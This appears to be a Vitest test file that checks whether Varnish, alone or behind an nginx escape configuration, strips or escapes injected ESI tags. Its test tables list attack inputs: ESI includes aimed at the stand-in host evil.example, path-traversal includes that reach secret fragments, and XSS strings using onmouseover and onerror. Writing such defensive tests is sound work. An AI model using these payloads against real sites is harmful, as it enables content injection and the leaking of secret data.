import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { includeEngines, isInstalled, SECRET } from "./includeEngines";
import { type Attacked, FRAGMENT, startAttacked } from "./startAttacked";

const varnish = includeEngines.find(({ name }) => name === "Varnish") as (typeof includeEngines)[number];
const nginx = includeEngines.find(({ name }) => name === "nginx") as (typeof includeEngines)[number];
/** Closes any markup that an author may have opened. */
const GUARD = "<!--]]>-->";

describe.skipIf(!isInstalled(varnish))("Varnish", () => {
  let attacked: Attacked;
  beforeAll(async () => {
    attacked = await startAttacked(varnish);
  });
  afterAll(() => attacked.close());

  it.each([
    `<p title="><esi:include src='/uploads/note.txt'/>">`,
    `<esi:include src="/uploads/note.txt"/>`,
    `<esi:include src="uploads/note.txt"/>`,
    `<esi:include src="http://evil.example/uploads/note.txt"/>`,
    `<esi:include src="http://evil.example/hs-fragments/guess/header"/>`,
    `<esi:include src="//evil.example/hs-fragments/${SECRET}/header"/>`,
    `<esi:include src="/hs-fragments/header"/>`,
    `<esi:include src="/hs-fragments/guess/header"/>`,
    `<esi:include src="/hs-fragments/${SECRET.toUpperCase()}/header"/>`,
    `<esi:include src="/hs-fragments/${SECRET}/../../uploads/note.txt"/>`,
    `<esi:include src="/hs-fragments/${SECRET}/header/../../uploads"/>`,
    `<esi:include src="/health"/>`,
    `<esi:include src="/page"/>`,
    `<!--esi <esi:include src="/uploads/note.txt"/> -->`,
    `<script>'<esi:include src="/uploads/note.txt"/>'</script>`,
  ])("removes %s without sending a request", async (attack) => {
    const before = attacked.serve.asked.length;
    const html = await attacked.through(`<p>a</p>${attack}`);
    expect(html).not.toMatch(/UPLOAD|fragment</);
    expect(attacked.askedElsewhere()).toEqual([]);
    expect(attacked.serve.asked.slice(before).filter(({ url }) => url !== "/health")).toEqual([]);
  });

  it.each(["<!-- ", "<![CDATA[ ", "<!--esi ", "<a ", "<!", "<esi:include src='", "<!-- --", "<![CDATA[ ]"])(
    "processes an include after its comment and never shows the secret when an author opens %s in an attribute",
    async (opened) => {
      const attack = `<p title=">${opened}">`;
      const html = await attacked.through(`<p>a</p>${attack}${GUARD}${varnish.include("header")}<p>b</p>`);
      expect(html).toContain(FRAGMENT);
      expect(html).not.toContain(SECRET);
    },
  );

  it("processes includes in a page that begins with text or a byte order mark", async () => {
    for (const start of ["Notice: text", "\ufeff<!doctype html>"])
      expect(await attacked.through(start + varnish.include("header"))).toContain(FRAGMENT);
  });

  /** The documents describe this behavior of Varnish, and require `escape-esi.conf` because of it. */
  it("removes the quote that ends an attribute when an author writes a broken ESI tag in it", async () => {
    expect(await attacked.through('<p title="><esi:a">hi</p><p title="x">')).toBe(
      '<p title=">hi</p><p title="x">',
    );
  });
});

describe.skipIf(!isInstalled(varnish) || !isInstalled(nginx))("Varnish in front of escape-esi.conf", () => {
  let attacked: Attacked;
  beforeAll(async () => {
    attacked = await startAttacked(varnish, { isEscaped: true });
  });
  afterAll(() => attacked.close());

  it.each([
    '<p title="><esi:a">hi</p><p title="onmouseover=alert(1) x=">',
    `<p title="><esi:include src='/uploads/note.txt'/>">`,
    `<p title="><esi:include src='/hs-fragments/guess/header'/>">`,
    `<p title="><esi:include src=/x"><p title=">`,
    '<p title="><esi:remove>">rest<p title="></esi:remove>">',
    "<!--esi <img src=x onerror=alert(1)> -->",
    '<p title="><!-- "><p title="><![CDATA[">',
  ])("sends %s as text, and processes the include after it", async (attack) => {
    const html = await attacked.through(`<p>a</p>${attack}${varnish.include("header")}<p>b</p>`);
    const harmless = attack
      .replaceAll("<esi:", "&lt;esi:")
      .replaceAll("</esi:", "&lt;/esi:")
      .replace("<!--esi", "<!-- esi");
    expect(html).toBe(`<p>a</p>${harmless}${GUARD}${FRAGMENT}<p>b</p>`);
    expect(attacked.askedElsewhere()).toEqual([]);
  });
});
